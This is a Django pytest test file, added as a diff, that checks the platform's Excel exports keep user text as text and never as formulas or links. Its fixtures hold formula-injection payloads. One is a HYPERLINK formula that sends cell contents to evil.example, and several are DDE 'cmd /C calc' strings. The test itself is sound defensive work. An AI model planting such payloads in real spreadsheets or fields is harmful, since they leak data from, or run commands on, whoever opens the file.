@@ -1,0 +1,101 @@
+"""Every .xlsx the platform writes keeps user text as text: no formula, no link, no guessed number.
+
+A project named =HYPERLINK("http://evil.example/?leak="&B2,"点击查看") once came out of the 台账 as a live formula.
+Each export and template is downloaded through its page and read back with openpyxl.
+"""
+import datetime
+import io
+from decimal import Decimal
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from actiondesk.chains.choices import ChainKind, PlacementRole
+from actiondesk.chains.models import Chain, ChainSegment, SegmentEnterprise
+from actiondesk.enterprises.models import Enterprise, EnterpriseYearFigures
+from actiondesk.plans.models import Indicator, Task
+from actiondesk.projects.choices import FactorKind
+from actiondesk.projects.models import FactorNeed, Project
+from actiondesk.supervision import services
+from actiondesk.supervision.periods import periods_ensure
+
+pytestmark = pytest.mark.django_db
+LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'
+PLUS, MINUS, AT = "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"
+ARRAY, URL, DIGITS = "{=1+1}", "http://evil.example/", "0012345"
+
+
+def read_back(response) -> set[str]:
+    """All text cells of a downloaded workbook; fails on any formula or hyperlink cell."""
+    assert response.status_code == 200, response.status_code
+    book = load_workbook(io.BytesIO(response.content))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert cells
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert [c.coordinate for c in cells if c.hyperlink is not None] == []
+    return {c.value for c in cells if c.data_type == "s"}
+
+
+@pytest.fixture
+def evil_enterprise(zone):
+    enterprise = Enterprise.objects.create(zone=zone, credit_code="91210400MA0000001X", name=LEAK,
+                                           former_names=PLUS, park=MINUS, address=AT, contact_name=URL,
+                                           contact_phone=DIGITS, registered_on=datetime.date(2020, 1, 2))
+    EnterpriseYearFigures.objects.create(enterprise=enterprise, year=2025, revenue=Decimal("10"))
+    return enterprise
+
+
+def test_the_project_ledger_and_both_factor_ledgers_write_names_as_text(login, alice, departments, evil_enterprise):
+    project = Project.objects.create(zone=alice.membership.zone, lead_department=departments["产业创新局"],
+                                     code="=1+2", name=LEAK, investor_name=PLUS, park=MINUS, location=AT,
+                                     description=ARRAY, total_investment=Decimal("100"))
+    FactorNeed.objects.create(project=project, kind=FactorKind.LAND, quantity=1, unit="-2+3", description=LEAK,
+                              department=departments["产业创新局"], planned_on=datetime.date(2026, 1, 1),
+                              progress_note=AT)
+    client = login(alice)
+    ledger = read_back(client.get(reverse("projects:project_list"), {"export": "xlsx"}))
+    assert {"=1+2", LEAK, PLUS, MINUS, AT, ARRAY} <= ledger
+    factors = read_back(client.get(reverse("projects:factor_list"), {"export": "xlsx"}))
+    assert {"=1+2", LEAK, "-2+3"} <= factors
+    progress = read_back(client.get(reverse("projects:factor_progress"), {"export": "xlsx"}))
+    assert {"=1+2", LEAK, "-2+3", AT} <= progress
+
+
+def test_the_enterprise_export_writes_names_as_text(login, admin, evil_enterprise):
+    texts = read_back(login(admin).get(reverse("enterprises:export"), {"year": 2025}))
+    assert {LEAK, PLUS, MINUS, AT, URL, DIGITS} <= texts
+
+
+def test_the_chain_output_template_writes_enterprise_names_as_text(login, alice, departments, evil_enterprise):
+    chain = Chain.objects.create(zone=evil_enterprise.zone, name="特种机器人", kind=ChainKind.STRATEGIC,
+                                 industry="equipment", department=departments["产业创新局"])
+    segment = ChainSegment.objects.create(chain=chain, position="midstream", name="机器人本体")
+    SegmentEnterprise.objects.create(segment=segment, enterprise=evil_enterprise, role=PlacementRole.LEADER)
+    texts = read_back(login(alice).get(reverse("chains:chain_outputs_template", args=[chain.pk]),
+                                       {"month": "2026-01"}))
+    assert LEAK in texts
+
+
+def test_the_supervision_ledger_writes_indicator_names_and_report_notes_as_text(login, plan, alice, supervisor):
+    periods = {p.month: p for p in periods_ensure(plan=plan)}
+    indicator = Indicator.objects.get(plan=plan, name="高技术成果")
+    Indicator.objects.filter(pk=indicator.pk).update(name=LEAK)
+    task = Task.objects.get(plan=plan, number="5")
+    report = services.report_open(period=periods[6], acting_user=alice)
+    services.report_save(report=report, acting_user=alice, values={indicator.pk: {"value": 4}},
+                         notes={task.pk: {"progress": "攻关项目4项", "problems": MINUS, "next_steps": AT}})
+    services.report_approve(report=services.report_submit(report=report, acting_user=alice), acting_user=supervisor)
+    texts = read_back(login(supervisor).get(reverse("supervision:export", args=["2026-06", "xlsx"])))
+    assert {LEAK, MINUS, AT} <= texts
+
+
+@pytest.mark.parametrize("url", ["enterprises:import_template", "projects:ledger_template"])
+def test_the_import_templates_hold_no_formula(login, admin, departments, url):
+    texts = read_back(login(admin).get(reverse(url)))
+    assert texts  # headers and notes, all as text
+
+
+def test_an_outsider_gets_no_export_of_another_zone(login, mallory, evil_enterprise):
+    texts = read_back(login(mallory).get(reverse("enterprises:export"), {"year": 2025}))
+    assert LEAK not in texts
